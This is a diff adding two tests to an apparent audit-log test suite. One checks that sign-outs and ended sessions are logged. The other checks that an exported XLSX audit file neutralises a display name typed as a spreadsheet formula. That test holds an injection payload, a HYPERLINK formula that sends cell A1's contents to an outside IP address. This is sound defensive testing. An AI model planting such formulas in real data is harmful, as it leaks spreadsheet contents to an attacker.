@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
+import { readXlsx } from 'hucre/xlsx';
 import { letIn } from '../../../test/harness/let-in.ts';
 import { type Caller, callerOf, createWorld, secret, type World } from '../../../test/harness/world.ts';
 
@@ -148,6 +149,55 @@ test('the audit tells sign-ins, failures, refusals and changes of powers; filter
   const second = await audit({ after: first.next });
   assert.equal(new Set([...first.lines, ...second.lines].map(({ id }) => id)).size, 100 + second.lines.length);
   assert.equal((await audit({ words: '%' })).lines.length, 0, 'a sign is a sign');
+});
+
+test('signing out, and ending sessions of one’s own elsewhere, stand in the audit', async () => {
+  const person = await world.signIn('inspector');
+  const again = async () =>
+    callerOf(world.server, person.id, await letIn(world.database.owner, secret, person.id, world.clock()));
+  const [phone, tablet] = [await again(), await again()];
+  const own = (await person.get('/api/auth/sessions')).json as { id: string; current: boolean }[];
+  const other = own.find(({ current }) => !current);
+  assert.equal((await person.post('/api/auth/sessions/end', { id: other?.id })).status, 204);
+  assert.equal((await person.post('/api/auth/sessions/end', { id: other?.id })).status, 404, 'it is over');
+  assert.equal((await person.post('/api/auth/sessions/end-others')).status, 204);
+  for (const gone of [phone, tablet]) assert.equal((await gone.get('/api/me')).status, 401);
+  assert.equal((await person.post('/api/auth/sign-out')).status, 204);
+  assert.equal((await person.post('/api/auth/sign-out')).status, 204, 'nobody is left to sign out');
+  const everywhere = await again();
+  assert.equal((await everywhere.send('DELETE', '/api/auth/sessions')).status, 204);
+  const username = (
+    await world.database.owner.query<{ username: string }>('select username from account where id = $1', [person.id])
+  ).rows[0]?.username;
+  const told = (await audit({ group: 'signIn', words: username })).lines.map(({ event, object, who, ok }) => [
+    event,
+    object,
+    who,
+    ok,
+  ]);
+  assert.deepEqual(told, [
+    ['signOut', `${username}：全部登录`, '测试inspector', true],
+    ['signOut', username, '测试inspector', true],
+    ['sessionsEndedBySelf', `${username}：其他各处登录`, '测试inspector', true],
+    ['sessionsEndedBySelf', `${username}：一处登录`, '测试inspector', true],
+  ]);
+});
+
+test('a name typed as a formula stays a text in the audit that is taken along', async () => {
+  const formula = '=HYPERLINK("http://192.0.2.1/?x="&A1,"点此")';
+  const posts = [{ county: '519901', area: '519901', role: 'writer', validFrom: '2020-01-01' }] as const;
+  await world.server.auth.createWithFirstPassword({ username: 'formulist', name: formula, posts });
+  const typed = { username: 'formulist', password: 'Wrong-2026' };
+  assert.equal((await callerOf(world.server, '', '').post('/api/auth/sign-in', typed)).status, 401);
+  const ask = { from: '2026-01-01', to: '2026-12-31', words: 'hyperlink' };
+  const path = `http://localhost/api/audit-export?input=${encodeURIComponent(JSON.stringify(ask))}`;
+  const headers = { cookie: auditor.cookie, host: 'localhost' };
+  const response = await world.server.app.fetch(new Request(path, { headers }));
+  assert.equal(response.status, 200);
+  const [sheet] = (await readXlsx(new Uint8Array(await response.arrayBuffer()), { readStyles: true })).sheets;
+  assert.deepEqual(sheet?.rows[1]?.slice(1, 5), [formula, '登录失败', '未成功', 'formulist：用户名或密码不正确']);
+  const cell = sheet?.cells?.get('1,1');
+  assert.deepEqual([cell?.formula, cell?.style?.numFmt], [undefined, '@']);
 });
 
 test('the audit cannot be changed by requests, and only the audit administrator takes it along', async () => {
